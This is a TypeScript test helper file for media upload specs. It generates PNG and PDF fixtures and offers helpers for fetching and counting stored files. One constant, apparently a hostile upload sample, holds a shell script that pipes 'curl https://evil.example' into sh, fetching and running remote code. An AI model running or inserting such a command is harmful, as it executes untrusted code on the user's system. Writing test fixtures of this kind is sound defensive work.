import { readdirSync } from 'node:fs';
import sharp from 'sharp';
import type { DiskFileStorage } from '../../../src/modules/media/file-storage';
import type { TestApi } from './harness';

export const png = (width: number, height: number, background = '#058243') =>
  sharp({ create: { width, height, channels: 3, background } })
    .png()
    .toBuffer();
export const dataUrl = (buffer: Buffer, type = 'image/png') =>
  `data:${type};base64,${buffer.toString('base64')}`;
export const SCRIPT = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
/** A PDF's magic bytes without a page: taken as a file, but nothing to preview. */
export const PDF = Buffer.from('%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n');

/**
 * A real one-page PDF (A4) written by hand: a blue bar at the top, a red square below,
 * on white. `note` goes into a comment, so that every copy differs in its bytes.
 */
export function pdfWithShapes(note = ''): Buffer {
  const content = '0 0 1 rg 40 700 515 100 re f\n1 0 0 rg 200 300 200 200 re f';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
  ];
  let pdf = `%PDF-1.4\n%${note.replace(/[\r\n]/g, ' ')}\n`;
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(pdf.length);
    pdf += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = pdf.length;
  pdf += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  pdf += offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  pdf += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(pdf, 'latin1');
}
export const IMMUTABLE = 'max-age=31536000, immutable';

/**
 * File access for the media specs, on the suite's API and storage (read when called, so the
 * suite's beforeAll has set them).
 */
export function fileAccess(suite: () => { api: TestApi; storage: DiskFileStorage }) {
  /** Files stay binary here; the harness client reads JSON. */
  const fetchFile = (url: string, headers: Record<string, string> = {}) =>
    suite().api.app.inject({ method: 'GET', url, headers });
  /** Every file under ${DATA_DIR}/files, originals and renderings alike. */
  const storedFiles = () =>
    (
      readdirSync(suite().storage.root, { recursive: true, withFileTypes: true }) as {
        isFile(): boolean;
      }[]
    ).filter((entry) => entry.isFile()).length;
  const storageKeyOf = async (table: 'image' | 'upload', id: number) => {
    const [row] = await suite().api.dataSource.query(
      `SELECT storageKey FROM ${table} WHERE id = ${id}`,
    );
    return (row as { storageKey: string }).storageKey;
  };
  return { fetchFile, storedFiles, storageKeyOf };
}
